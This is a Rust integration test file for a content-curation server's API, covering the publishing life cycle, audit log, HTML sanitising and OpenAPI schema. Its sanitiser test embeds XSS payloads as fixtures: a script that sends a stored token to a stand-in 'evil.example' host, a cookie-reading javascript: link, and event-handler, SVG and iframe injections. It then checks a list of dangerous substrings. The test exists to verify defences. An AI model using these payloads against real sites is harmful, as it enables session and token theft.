//! Curation: the content life cycle, sanitising, the audit log, the OpenAPI document.

use relay_protocol::*;
use relay_server::db::Backend;
use reqwest::{Method, StatusCode};

use crate::harness::*;
use crate::replica::*;

crate::both_backends!(
    content_moves_from_draft_to_approved_to_retracted_and_is_audited,
    hostile_html_is_stored_defused,
    the_openapi_document_describes_the_api,
);

async fn content_moves_from_draft_to_approved_to_retracted_and_is_audited(backend: Backend) {
    let db = TestDb::new(backend).await;
    let server = Server::start(&db).await;
    let org = server.org("acme").await;
    let news = server.channel(&org, "news").await;
    let curator = server
        .person(&org, "Cora Curator", Role::Curator, "FR", "fr", "Comms")
        .await;

    let mut new = article(&news, "Launch day");
    new.suggested_texts = vec![SuggestedText {
        network: Network::Linkedin,
        language: "EN".into(),
        text: " Proud of the team! ".into(),
    }];
    new.audience = Audience {
        countries: vec!["fr".into(), "FR".into()],
        languages: vec![],
        departments: vec!["Sales".into()],
    };
    let created = curator.create_content(&new).await;
    assert_eq!(created.state, ContentState::Draft);
    assert!(!created.live);
    assert_eq!(
        created.audience.countries,
        vec!["FR"],
        "normalised and deduplicated"
    );
    assert_eq!(created.item.suggested_texts[0].text, "Proud of the team!");
    assert_eq!(created.item.suggested_texts[0].language, "en");
    assert_eq!(created.created_by, curator.person().id);

    let drafts: Vec<CuratedContent> = curator.get("/v1/content?state=draft").await;
    assert_eq!(drafts.len(), 1);

    let approved = curator.approve(&created.item.id).await;
    assert_eq!(approved.state, ContentState::Approved);
    assert_eq!(
        approved.approved_by.as_deref(),
        Some(curator.person().id.as_str())
    );
    assert!(approved.live);
    let twice = curator
        .send::<()>(
            Method::POST,
            &format!("/v1/content/{}/approve", created.item.id),
            None,
        )
        .await;
    assert_eq!(twice.status, StatusCode::CONFLICT);

    let retracted: CuratedContent = curator
        .send_ok(
            Method::POST,
            &format!("/v1/content/{}/retract", created.item.id),
            Some(&RetractRequest {
                reason: "Embargo broken".into(),
            }),
        )
        .await;
    assert_eq!(retracted.state, ContentState::Retracted);
    assert!(!retracted.live);
    for (method, path) in [
        (
            Method::POST,
            format!("/v1/content/{}/approve", created.item.id),
        ),
        (Method::PATCH, format!("/v1/content/{}", created.item.id)),
    ] {
        let answer = curator
            .send(method, &path, Some(&serde_json::json!({})))
            .await;
        assert_eq!(answer.status, StatusCode::CONFLICT, "{path}: {answer:?}");
    }

    let audit: Vec<AuditEntry> = curator
        .get(&format!("/v1/audit?subject_id={}", created.item.id))
        .await;
    let actions: Vec<&str> = audit.iter().rev().map(|a| a.action.as_str()).collect();
    assert_eq!(
        actions,
        vec!["content.create", "content.approve", "content.retract"]
    );
    assert!(audit
        .iter()
        .all(|a| a.actor_id.as_deref() == Some(curator.person().id.as_str())));
    assert_eq!(audit[0].detail["reason"], "Embargo broken");
}

async fn hostile_html_is_stored_defused(backend: Backend) {
    let acme = Acme::new(backend).await;
    let Acme {
        news,
        curator,
        employee,
        ..
    } = &acme;

    let mut new = article(news, "Totally safe");
    new.body_html = r#"<p>Read <a href="javascript:alert(document.cookie)">this</a></p>
        <script>fetch('https://evil.example/'+localStorage.token)</script>
        <img src="https://img.example/x.png" onerror="alert(1)">
        <svg onload="alert(2)"><use href="data:image/svg+xml,<svg onload=alert(3)>"/></svg>
        <iframe srcdoc="<script>alert(4)</script>"></iframe>
        <a href="https://example.com/ok" target="_top">fine link</a>"#
        .into();
    curator.publish(&new).await;
    let mut replica = Replica::default();
    replica.sync(employee, 100).await;
    let html = &replica.items.values().next().unwrap().body_html;
    for bad in [
        "<script",
        "javascript:",
        "onerror",
        "onload",
        "<svg",
        "<iframe",
        "srcdoc",
        "alert(",
    ] {
        assert!(!html.contains(bad), "{bad} survived: {html}");
    }
    assert!(html.contains(r#"href="https://example.com/ok""#), "{html}");
    assert!(
        html.contains(r#"src="https://img.example/x.png""#),
        "{html}"
    );
}

async fn the_openapi_document_describes_the_api(backend: Backend) {
    let db = TestDb::new(backend).await;
    let server = Server::start(&db).await;
    let doc: serde_json::Value = server.anonymous().get("/v1/openapi.json").await;
    assert_eq!(doc["openapi"], "3.1.0");
    for path in [
        "/v1/enrol",
        "/v1/session/refresh",
        "/v1/sync",
        "/v1/events",
        "/v1/shares",
        "/v1/content/{id}/approve",
        "/v1/people/{id}/enrolments",
    ] {
        assert!(
            doc["paths"].get(path).is_some(),
            "{path} missing from the OpenAPI document"
        );
    }
    for schema in [
        "SyncPage",
        "Change",
        "Item",
        "Problem",
        "NewContent",
        "NewShareRecord",
    ] {
        assert!(
            doc["components"]["schemas"].get(schema).is_some(),
            "schema {schema} missing"
        );
    }
    assert!(doc["components"]["securitySchemes"].get("bearer").is_some());
}
